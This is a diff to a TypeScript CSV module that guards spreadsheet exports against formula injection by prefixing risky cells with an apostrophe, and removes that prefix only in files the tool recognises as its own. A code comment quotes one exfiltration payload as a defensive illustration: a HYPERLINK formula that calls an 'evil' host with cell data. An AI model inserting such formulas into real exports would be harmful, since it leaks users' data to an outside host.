@@ -2,10 +2,10 @@
 // Feedback text is untrusted: a cell starting with = + - @ (or a tab / carriage return) is a live formula when the
 // file is opened in Excel or LibreOffice (`=HYPERLINK("http://evil/?"&A1,"click")`), and harmless text such as
 // "+1 for dark mode" shows as #NAME?. The writer prefixes such a cell with an apostrophe, which spreadsheets read as
-// "this is text"; a cell that already starts with an apostrophe gets one more, so that dropping exactly one leading
-// apostrophe gives every cell back exactly. Readers drop it only in a file recognised as Product Forge's results (by
-// its header, RESULTS_CSV_COLUMNS) or as the labels file the Report view writes (by its place, isLabelsFile), never in
-// a user's own CSV, where a leading apostrophe is the customer's.
+// "this is text"; a cell that already starts with an apostrophe gets one more, so that dropping the added apostrophe
+// gives every cell back exactly. Readers drop it only in a file recognised as Product Forge's results (by its header,
+// RESULTS_CSV_COLUMNS) or as the labels file the Report view writes (by its place, isLabelsFile): formulaEscapedCsv.
+// Never in a user's own CSV, where a leading apostrophe is the customer's.
 import * as path from 'node:path';
 
 /** The fixed first columns of a results CSV (src/core/analysis/writers.ts), in order: how such a file is recognised. */
@@ -35,7 +35,7 @@ export function unescapeFormula(cell: string): string {
 
 /** Drops the apostrophe escapeFormula added from every cell of a row of a results CSV, in place; returns the row. */
 export function unescapeFormulaRow(cells: string[]): string[] {
-  for (let i = 0; i < cells.length; i++) if (cells[i].charCodeAt(0) === 39 && ESCAPED.test(cells[i])) cells[i] = cells[i].slice(1);
+  for (let i = 0; i < cells.length; i++) cells[i] = unescapeFormula(cells[i]);
   return cells;
 }
 
@@ -53,4 +53,9 @@ export function isLabelsFile(file: string): boolean {
   const parts = path.resolve(file).split(/[\\/]/);
   const n = parts.length;
   return n >= 3 && parts[n - 1] === 'sentiment-labels.csv' && parts[n - 2] === 'labels' && parts[n - 3] === '.product-forge';
+}
+
+/** Whether a CSV's cells were formula-escaped by Product Forge: its results (by the header) or its labels file (by its place). */
+export function formulaEscapedCsv(file: string, header: readonly string[] | undefined): boolean {
+  return isResultsCsvHeader(header) || isLabelsFile(file);
 }
